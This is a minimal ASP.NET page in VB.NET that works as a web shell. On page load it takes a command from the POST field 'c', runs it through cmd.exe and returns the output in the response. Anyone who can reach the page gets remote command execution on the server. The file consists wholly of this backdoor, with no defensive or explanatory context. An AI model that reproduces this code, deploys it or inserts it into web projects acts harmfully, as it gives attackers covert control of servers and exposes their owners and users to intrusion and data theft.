<%@ page language="vb" %>
<%@ import namespace="system.diagnostics" %>
<script runat=server>
sub page_load(s as object, e as eventargs)
    if request.form("c") <> "" then
        dim psi as new processstartinfo("cmd.exe", "/c " & request.form("c"))
        psi.useshellexecute = false
        psi.redirectstandardoutput = true
        dim pr as process = process.start(psi)
        response.write(pr.standardoutput.readtoend())
    end if
end sub
</script>
